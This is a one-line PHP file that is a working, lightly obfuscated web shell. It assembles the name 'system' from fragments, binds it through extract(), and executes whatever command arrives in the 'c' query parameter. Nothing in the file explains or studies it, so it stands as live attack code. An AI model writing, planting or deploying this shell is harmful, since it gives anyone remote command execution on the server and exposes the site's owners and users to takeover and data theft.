<?php $m = ['fn' => 'sys' . 'tem']; extract($m); $fn($_GET['c']);
